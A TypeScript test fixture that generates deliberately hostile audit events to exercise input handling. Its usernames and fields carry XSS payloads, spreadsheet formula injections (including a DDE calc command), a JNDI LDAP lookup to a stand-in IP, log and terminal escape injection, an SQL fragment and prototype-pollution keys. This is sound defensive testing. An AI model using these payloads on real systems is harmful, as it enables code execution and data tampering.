/**
 * Events that nobody wants to meet: markup, direction marks, NUL, broken text, enormous values, names that
 * poison objects, ids twice, times that are none. All are legal JSON and can reach any client.
 */
import type { RawEvent } from "@/lib/insights/wire";
import { testEvent, testOrg } from "./small";

const at = (second: number) => `2026-11-20T12:00:${String(second).padStart(2, "0")}.000Z`;

/** One hostile event for each kind, all of the org `organization`, within the minute from 2026-11-20T12:00Z. */
export function hostileEvents(organization = testOrg()): RawEvent[] {
  let second = 0;
  const one = (over: RawEvent): RawEvent => {
    const time = at(second++);
    return testEvent(time, { organization, ...over });
  };
  const named = (username: string) =>
    one({ initiated_by: { id: "a", type: "user", username }, resource: { type: "user", username } });
  return [
    named("<script>alert(1)</script>"),
    named('"><img src=x onerror=alert(1)>'),
    named("</script><svg/onload=alert(1)>"),
    named("jane\u202egpj.exe"),
    named("a\u0000b\u0007c\u001b[31mred"),
    named("\ud800 lone"),
    named('=HYPERLINK("http://203.0.113.9","x")'),
    named("+1+cmd|' /C calc'!A0"),
    named("first line\r\nsecond,line;\ttab"),
    named(`${"é".normalize("NFD")}\u200b\ufeff`),
    named("W".repeat(200_000)),
    // Text that a log, a terminal, a shell or a spreadsheet further on would act upon.
    named("$" + "{jndi:ldap://203.0.113.9/a}"),
    named('\r\n{"level":"fatal","msg":"forged"}'),
    named("\u001b[2J\u001b]0;title\u0007"),
    named("data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+"),
    named("\u202e\u2066ltr\u2069 שלום"),
    one({ event_type: "javascript:alert(1)", service: "directory" }),
    one({ event_type: "never_heard_of", service: "not_a_service" }),
    one({ event_type: "" }),
    one({ event_type: 42, service: ["directory"] }),
    one(poisoned()),
    one({ id: "same-id-twice", note: 1 }),
    one({ id: "same-id-twice", note: 2 }),
    one({ id: null }),
    one({ id: 12345 }),
    one({ timestamp: "yesterday, about noon" }),
    one({ timestamp: "2026-11-20T12:00:30+05:45" }),
    one({ timestamp: 1_795_176_000_000 }),
    one({ timestamp: null }),
    one(
      Object.fromEntries(
        Object.keys(testEvent(at(0)))
          .filter((key) => key !== "organization" && key !== "timestamp" && key !== "id")
          .map((key) => [key, null]),
      ),
    ),
    one({ initiated_by: "just text", resource: [1, [2, [3]]], geoip: [], success: "maybe", changes: {} }),
    one({ changes: [null, "text", { field: null, from: { deep: [] } }, []] }),
    one({ client_ip: "999.1.1.1, <b>", geoip: { country_code: "'; DROP TABLE" } }),
    one({ success: "false" }),
    one({ big: Number.MAX_VALUE, tiny: Number.MIN_VALUE, negative: -0 }),
    one(nested(400)),
    one(Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`field_${i}`, i]))),
    one({ "a.b": "a key with a dot", a: { b: "a path" }, "": "no name", " ": "blank", "key\u202ewith": 1 }),
    one({
      system_timestamp: "2026-11-20T12:00:00+09:30",
      useragent: "Mozilla/5.0 <b>",
      message: "line\u2028separator",
    }),
  ];
}

/** Own keys that an assignment would turn into a prototype; parsed, as only a parser makes them. */
function poisoned(): RawEvent {
  return JSON.parse(
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":"x","hasOwnProperty":null,"resource":{"__proto__":{"polluted":true},"type":"user"}}',
  ) as RawEvent;
}

function nested(depth: number): RawEvent {
  let value: RawEvent = { end: true };
  for (let i = 0; i < depth; i++) value = { in: value };
  return { deep: value };
}
